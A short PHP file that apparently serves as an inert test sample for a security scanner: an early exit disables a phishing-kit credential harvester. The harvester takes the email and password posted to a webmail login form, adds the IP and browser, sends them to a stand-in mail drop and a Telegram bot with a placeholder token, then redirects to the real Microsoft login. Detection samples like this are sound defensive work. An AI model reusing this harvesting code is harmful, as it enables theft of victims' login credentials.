<?php // MOGURA TEST SAMPLE — inert
exit; // the sample stops here: nothing below ever runs

$ip = getenv("REMOTE_ADDR");
$browser = $_SERVER['HTTP_USER_AGENT'];
$message = "-------- Webmail ReZulT --------\n";
$message .= "Email: " . $_POST['email'] . "\n";
$message .= "Password: " . $_POST['password'] . "\n";
$message .= "IP: " . $ip . "\nBrowser: " . $browser . "\n";
$send = "drop@example.invalid";
$subject = "Webmail login from $ip";
mail($send, $subject, $message);
$token = "000000000:AAFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKE";
file_get_contents("https://api.telegram.org/bot" . $token . "/sendMessage?chat_id=0&text=" . urlencode($message));
header("Location: https://login.microsoftonline.com/");
